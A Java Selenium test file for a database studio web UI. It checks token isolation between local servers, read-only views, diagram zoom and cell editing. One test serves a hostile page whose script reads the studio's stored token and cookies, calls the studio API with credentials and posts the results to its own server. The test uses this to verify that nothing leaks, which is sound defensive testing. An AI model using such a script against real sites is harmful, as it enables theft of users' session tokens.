package budgetron.db.cli.studio;

import budgetron.db.config.DbUrl;
import budgetron.db.support.TestDatabase;
import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.interactions.Actions;
import org.openqa.selenium.support.ui.Select;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * In a real Chromium: another local web server visited in the same browser gets nothing that calls
 * the studio, two studios side by side both keep working, and the views a daily user sees first
 * (screenshots under target/studio-*.png).
 */
class StudioBrowserSafetyTest {
    private static DbUrl url;
    private static Studio writable;
    private static Studio readOnly;
    private static ChromeDriver browser;
    private static WebDriverWait wait;

    @BeforeAll
    static void start() throws Exception {
        url = StudioFixture.budgetronWithData();
        // what @Enumerated(STRING) without a PostgreSQL enum builds: a CHECK of the constants; filled, never analysed
        TestDatabase.execute(url, "CREATE TABLE notes (id bigserial PRIMARY KEY, kind varchar(255) NOT NULL "
                + "CHECK (kind IN ('NOTE', 'TODO', 'DONE')), body text)",
                "INSERT INTO notes (kind, body) SELECT (ARRAY['NOTE', 'TODO', 'DONE'])[1 + g % 3], 'note ' || g FROM generate_series(1, 1000) g");
        writable = StudioFixture.start(url, false, "development");
        readOnly = StudioFixture.start(url, true, "production");
        browser = StudioFixture.chromium();
        wait = new WebDriverWait(browser, Duration.ofSeconds(15));
    }

    @AfterAll
    static void stop() {
        if (browser != null) {
            browser.quit();
        }
        for (Studio s : new Studio[]{writable, readOnly}) {
            if (s != null) {
                s.close();
            }
        }
    }

    private static void ready() {
        StudioFixture.ready(wait);
    }

    private static void openTable(String table) {
        StudioFixture.openTable(browser, wait, table);
    }

    private static void shot(String name) throws Exception {
        Files.copy(browser.getScreenshotAs(OutputType.FILE).toPath(), Path.of("target", name), StandardCopyOption.REPLACE_EXISTING);
    }

    @Test
    void anotherLocalServerReceivesNothingAndTwoStudiosKeepWorking() throws Exception {
        String token = writable.token();
        List<String> received = new CopyOnWriteArrayList<>();
        HttpServer other = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 8);
        other.createContext("/", ex -> {
            StringBuilder seen = new StringBuilder(ex.getRequestMethod() + " " + ex.getRequestURI() + "\n");
            ex.getRequestHeaders().forEach((k, v) -> seen.append(k).append(": ").append(String.join(", ", v)).append('\n'));
            seen.append(new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            received.add(seen.toString());
            // a page that tries what it can: read the studio's storage, call the studio's API, and report back here
            byte[] page = ("<!doctype html><title>dev server</title><body><script>"
                    + "const stolen = String(localStorage.getItem('budgetron-studio-token')) + ' ' + document.cookie;"
                    + "fetch('http://127.0.0.1:" + writable.port() + "/api/tables', {credentials: 'include'})"
                    + ".then(r => 'status ' + r.status, e => 'blocked ' + e).then(api => fetch('/report', {method: 'POST', body: stolen + ' | ' + api}))"
                    + ".then(() => document.body.dataset.done = 'true');"
                    + "</script></body>").getBytes(StandardCharsets.UTF_8);
            ex.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
            ex.sendResponseHeaders(200, page.length);
            ex.getResponseBody().write(page);
            ex.close();
        });
        other.start();
        try {
            browser.get(writable.address());
            ready();
            String first = browser.getWindowHandle();
            assertFalse(browser.getCurrentUrl().contains("token="), "the token leaves the address bar: " + browser.getCurrentUrl());

            browser.switchTo().newWindow(org.openqa.selenium.WindowType.TAB);
            browser.get("http://127.0.0.1:" + other.getAddress().getPort() + "/");
            wait.until(d -> "true".equals(d.findElement(By.tagName("body")).getDomAttribute("data-done")));
            String all = String.join("\n", received);
            assertFalse(all.contains(token), "the other server received the studio's token:\n" + all);
            assertFalse(all.toLowerCase().contains("cookie:"), "no cookie at all:\n" + all);
            assertTrue(all.contains("null  | "), "its page cannot read the studio's storage:\n" + all);
            assertTrue(all.contains("| status 401") || all.contains("| blocked"), "its call to the studio carries no credential:\n" + all);

            browser.switchTo().newWindow(org.openqa.selenium.WindowType.TAB);
            browser.get(readOnly.address());
            ready();
            String second = browser.getWindowHandle();
            assertTrue(browser.findElement(By.id("env")).getText().contains("read-only"));

            browser.switchTo().window(first);
            browser.navigate().refresh(); // no token in the address now: the page keeps its own
            ready();
            openTable("users");
            assertEquals(2, Long.parseLong(browser.findElement(By.id("count")).getDomAttribute("data-count")), "the first studio still works");
            assertTrue(browser.findElement(By.id("error")).getText().isEmpty());
            browser.switchTo().window(second);
            browser.navigate().refresh();
            ready();
            openTable("users");
            assertTrue(browser.findElement(By.id("error")).getText().isEmpty(), "and so does the second");
            browser.close();
            browser.switchTo().window(first);
        } finally {
            other.stop(0);
        }
    }

    @Test
    void whatADailyUserSeesFirst() throws Exception {
        browser.get(readOnly.address());
        ready();
        // read-only, no table picked: no empty filter controls, no Add row
        assertEquals("Pick a table", browser.findElement(By.id("grid-title")).getText());
        assertFalse(browser.findElement(By.id("filter-form")).isDisplayed(), "no filter controls before a table is picked");
        assertFalse(browser.findElement(By.id("add-row")).isDisplayed(), "no Add row in read-only mode");
        shot("studio-pick-a-table.png");

        // a freshly filled table, never analysed: counted, not estimated from nothing
        openTable("notes");
        assertEquals(1000, Long.parseLong(browser.findElement(By.id("count")).getDomAttribute("data-count")));
        assertEquals("1,000 rows", browser.findElement(By.id("count")).getText());
        assertFalse(browser.findElement(By.id("add-row")).isDisplayed(), "still no Add row in read-only mode");
        shot("studio-fresh-table.png");

        // row details: in view, no literal null, "1 row"
        browser.get(readOnly.address().replaceFirst("\\?token=.*$", "?table=bank_accounts"));
        ready();
        browser.findElement(By.cssSelector("#grid tbody tr[data-row='0'] td.actions button")).click();
        WebElement details = wait.until(d -> d.findElement(By.cssSelector("#details a[data-child]")) != null ? d.findElement(By.id("details")) : null);
        String text = details.getText();
        assertFalse(text.matches("(?s).*\\bnull\\b.*"), "no literal null: " + text);
        assertFalse(text.contains(" 1 rows"), text);
        Boolean inView = (Boolean) browser.executeScript("const r = arguments[0].getBoundingClientRect();"
                + "return r.top < window.innerHeight && r.bottom > 0;", details);
        assertTrue(inView, "the details panel is scrolled into view");
        shot("studio-row-details.png");

        // the diagram at 1400 px: fit to the width, and zoom
        browser.manage().window().setSize(new org.openqa.selenium.Dimension(1400, 1000));
        browser.findElement(By.cssSelector("#views a[data-view='diagram']")).click();
        wait.until(d -> d.findElements(By.cssSelector("#diagram g.table")).size() == 14);
        double fitted = svgWidth();
        double natural = Double.parseDouble(browser.findElement(By.cssSelector("#diagram svg")).getDomAttribute("data-width"));
        double room = ((Number) browser.executeScript("return document.getElementById('diagram').clientWidth")).doubleValue();
        assertEquals(Math.max(natural, room), fitted, 1.5, "the room's width, never smaller than its own (scrolls instead)");
        double letters = ((Number) browser.executeScript("return document.querySelector('#diagram svg text').getBoundingClientRect().height")).doubleValue();
        assertTrue(letters >= 12, "its text readable: " + letters + " px high");
        shot("studio-diagram-fit.png");
        browser.findElement(By.id("zoom-in")).click();
        assertEquals(Math.round(natural * 1.25), Math.round(svgWidth()), 1.0);
        assertEquals("125 %", browser.findElement(By.id("zoom-level")).getText());
        browser.findElement(By.id("zoom-100")).click();
        assertEquals(Math.round(natural), Math.round(svgWidth()), 1.0);
        browser.manage().window().setSize(new org.openqa.selenium.Dimension(1500, 1000));
    }

    private static double svgWidth() {
        return ((Number) browser.executeScript("return document.querySelector('#diagram svg').getBoundingClientRect().width")).doubleValue();
    }

    @Test
    void aCheckedColumnOffersItsValuesAndAnUnchangedCellQueuesNothing() throws Exception {
        browser.get(writable.address());
        ready();
        openTable("notes");
        WebElement cell = browser.findElement(By.cssSelector("#grid tbody tr[data-row='0'] td[data-column='kind']"));
        String before = cell.getText();
        new Actions(browser).doubleClick(cell).perform();
        Select kind = new Select(wait.until(d -> d.findElement(By.cssSelector("#grid td[data-column='kind'] select.editor"))));
        assertEquals(List.of("NOTE", "TODO", "DONE"), kind.getOptions().stream().map(WebElement::getText).toList(), "the CHECK's values");
        shot("studio-check-editor.png");
        browser.findElement(By.cssSelector("#grid td[data-column='kind'] button[data-action='ok']")).click();
        assertTrue(browser.findElement(By.id("pending-sql")).getText().isEmpty(), "the same value: nothing to save");

        WebElement body = browser.findElement(By.cssSelector("#grid tbody tr[data-row='0'] td[data-column='body']"));
        new Actions(browser).doubleClick(body).perform();
        WebElement input = wait.until(d -> d.findElement(By.cssSelector("#grid td[data-column='body'] input.editor")));
        input.sendKeys(Keys.ENTER);
        assertTrue(browser.findElement(By.id("pending-sql")).getText().isEmpty(), "an unchanged text: nothing to save");
        assertEquals(before, browser.findElement(By.cssSelector("#grid tbody tr[data-row='0'] td[data-column='kind']")).getText());
    }
}
